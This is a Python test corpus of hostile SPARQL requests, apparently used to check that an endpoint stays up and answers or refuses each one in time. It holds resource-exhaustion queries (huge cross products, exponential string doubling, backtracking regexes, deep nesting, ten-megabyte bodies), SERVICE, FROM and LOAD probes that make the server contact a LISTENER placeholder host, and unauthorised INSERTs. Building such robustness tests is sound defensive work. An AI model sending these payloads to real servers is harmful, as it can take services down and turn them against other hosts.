"""Requests that would bring a server down which trusts who asks it.

Each is to end by the deadline: with an error that is clear, or with a right answer.
"""

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from urllib.parse import quote

QUERY = "application/sparql-query"
UPDATE = "application/sparql-update"
_JSON = "application/sparql-results+json"
_N_TRIPLES = "application/n-triples"


@dataclass(frozen=True, slots=True)
class Attack:
    """A hostile request.

    Args:
        text: Query or update; LISTENER stands for an address where somebody listens.
        content_type: Of the body.
        path: Where it is posted to.
        accept: The media type wanted.
        size: How many rows a right answer has, or None where there is none in time.
    """

    text: str
    content_type: str = QUERY
    path: str = "/sparql"
    accept: str = _JSON
    size: int | None = None


_TWO = "?a ?b ?c . ?d ?e ?f"
_KNOWS = "<http://example.org/bench/knows>"


def _doubled(step: Callable[[str], str], times: int) -> str:
    binds = [
        f"BIND({step(f'?x{number}')} AS ?x{number + 1})" for number in range(times)
    ]
    text = " ".join(binds)
    return f'SELECT (STRLEN(?x{times}) AS ?n) {{ BIND("0123456789" AS ?x0) {text} }}'


def _values(name: str, count: int) -> str:
    return f"VALUES ?{name} {{ {' '.join(map(str, range(count)))} }}"


_EIGHT = " ".join(_values(name, 100) for name in "abcdefgh")


def _optionals(count: int) -> str:
    parts = " ".join(
        f"OPTIONAL {{ ?a{number} ?p{number} ?b{number} }}" for number in range(count)
    )
    return f"SELECT (COUNT(*) AS ?n) {{ {parts} }}"


def _unions(count: int) -> str:
    branches = " UNION ".join(
        f"{{ ?a ?b {number} . {_TWO} }}" for number in range(count)
    )
    return f"SELECT (COUNT(*) AS ?n) {{ {branches} }}"


_JOINS: Mapping[str, Attack] = {
    "cross product": Attack(f"SELECT (COUNT(*) AS ?n) {{ {_TWO} . ?g ?h ?i }}"),
    "cross product, all of it": Attack(f"SELECT * {{ {_TWO} }}"),
    "cross product, sorted": Attack(f"SELECT * {{ {_TWO} }} ORDER BY ?c ?f"),
    "cross product, sorted, ten of it": Attack(
        f"SELECT * {{ {_TWO} }} ORDER BY ?c ?f LIMIT 10"
    ),
    "cross product, distinct": Attack(f"SELECT DISTINCT ?a ?c ?f {{ {_TWO} }}"),
    "cross product, grouped": Attack(
        f"SELECT ?a ?f (COUNT(*) AS ?n) {{ {_TWO} }} GROUP BY ?a ?f"
    ),
    "cross product, as a graph": Attack(
        f"CONSTRUCT {{ ?a ?e ?f }} {{ {_TWO} }}", accept=_N_TRIPLES
    ),
    "cross product below NOT EXISTS": Attack(
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c"
        " FILTER NOT EXISTS { ?d ?e ?f FILTER(CONCAT(STR(?c), STR(?f)) = STR(?b)) } }"
    ),
    "forty OPTIONALs": Attack(_optionals(40)),
    "many UNIONs": Attack(_unions(300)),
    "VALUES, eight times": Attack(f"SELECT (COUNT(*) AS ?n) {{ {_EIGHT} }}"),
    "VALUES, compared": Attack(
        f"SELECT (COUNT(*) AS ?n) {{ {_values('a', 30_000)} {_values('b', 30_000)}"
        " FILTER(STR(?a) = CONCAT(STR(?b), 'x')) }"
    ),
}
_PATHS: Mapping[str, Attack] = {
    "path, there and back": Attack(
        f"SELECT (COUNT(*) AS ?n) {{ ?a ({_KNOWS}|^{_KNOWS})* ?b }}"
    ),
    "path of paths": Attack(
        f"SELECT (COUNT(*) AS ?n) {{ ?a ((({_KNOWS}*)*/{_KNOWS}?)*)* ?b }}"
    ),
    "path along all": Attack(
        "SELECT (COUNT(*) AS ?n) { ?a (!<http://x/>|!^<http://x/>)+ ?b ."
        " ?b (!<http://x/>)+ ?c }"
    ),
}
_STRINGS: Mapping[str, Attack] = {
    "CONCAT doubled": Attack(_doubled(lambda x: f"CONCAT({x}, {x})", 40)),
    "REPLACE doubled": Attack(_doubled(lambda x: f'REPLACE({x}, "(.)", "$1$1")', 34)),
    "ENCODE_FOR_URI of the doubled": Attack(
        _doubled(lambda x: f'ENCODE_FOR_URI(CONCAT({x}, "%%", {x}))', 30)
    ),
    "GROUP_CONCAT of all": Attack(
        "SELECT (STRLEN(GROUP_CONCAT(?t)) AS ?n) {"
        f" {_TWO} BIND(CONCAT(STR(?a), STR(?f)) AS ?t) }}"
    ),
    "UUID, distinct": Attack(
        f"SELECT (COUNT(DISTINCT ?u) AS ?n) {{ {_TWO} BIND(UUID() AS ?u) }}"
    ),
    "REGEX of many repetitions": Attack(
        'SELECT (COUNT(*) AS ?n) { ?a ?b ?c FILTER REGEX(STR(?c), "((a{1,99}){1,99})'
        '{1,99}$") }'
    ),
    "REGEX that goes back": Attack(
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f"
        ' FILTER REGEX(CONCAT(STR(?c), STR(?f)), "^(([a-z])+.)+[A-Z]([a-z])+$") }'
    ),
    "hashes of all": Attack(
        f"SELECT (COUNT(DISTINCT ?h) AS ?n) {{ {_TWO}"
        " BIND(SHA512(CONCAT(STR(?c), STR(?f))) AS ?h) }"
    ),
}
_TEXTS: Mapping[str, Attack] = {
    "nested groups": Attack("SELECT * " + "{" * 20_000 + "}" * 20_000),
    "nested brackets": Attack(
        "SELECT * { BIND(" + "(" * 50_000 + "1" + ")" * 50_000 + " AS ?x) }"
    ),
    "nested negations": Attack("ASK { FILTER(" + "!" * 100_000 + "true) }"),
    "nested SELECTs": Attack("SELECT * { " * 5_000 + "}" * 5_000),
    "ten megabytes": Attack(f"ASK {{}} # {'x' * 10_000_000}"),
    "ten megabytes of VALUES": Attack(f"SELECT * {{ {_values('x', 1_300_000)} }}"),
}
_OUTSIDE: Mapping[str, Attack] = {
    "SERVICE": Attack("SELECT * { SERVICE <LISTENER> { ?s ?p ?o } }"),
    "SERVICE SILENT": Attack("SELECT * { SERVICE SILENT <LISTENER> { ?s ?p ?o } }"),
    "SERVICE by a variable": Attack(
        "SELECT * { VALUES ?where { <LISTENER> } SERVICE ?where { ?s ?p ?o } }"
    ),
    "SERVICE, escaped": Attack("SELECT * { #\n\\u0053ERVICE <LISTENER> { ?s ?p ?o } }"),
    "FROM": Attack("SELECT * FROM <LISTENER> { ?s ?p ?o }", size=0),
    "FROM NAMED": Attack(
        "SELECT * FROM NAMED <LISTENER> { GRAPH ?g { ?s ?p ?o } }", size=0
    ),
    "default-graph-uri": Attack(
        "SELECT * { ?s ?p ?o }", path="/sparql?default-graph-uri=LISTENER", size=0
    ),
    "LOAD": Attack("LOAD <LISTENER>", UPDATE, "/update"),
    "LOAD as a query": Attack("LOAD <LISTENER>"),
    "INSERT by who may not": Attack(
        "INSERT DATA { <http://x/> <http://x/> 1 }", UPDATE, "/update"
    ),
    "endless INSERT by who may not": Attack(
        f"INSERT {{ ?a ?a ?a }} WHERE {{ {_EIGHT} }}", UPDATE, "/update"
    ),
}
CORPUS: Mapping[str, Attack] = {
    **_JOINS,
    **_PATHS,
    **_STRINGS,
    **_TEXTS,
    **_OUTSIDE,
}


def aimed(attack: Attack, listener: str) -> tuple[str, bytes]:
    """Return the target and the body of an attack, aimed at who listens."""
    target = attack.path.replace("LISTENER", quote(listener, safe=""))
    return target, attack.text.replace("LISTENER", listener).encode()
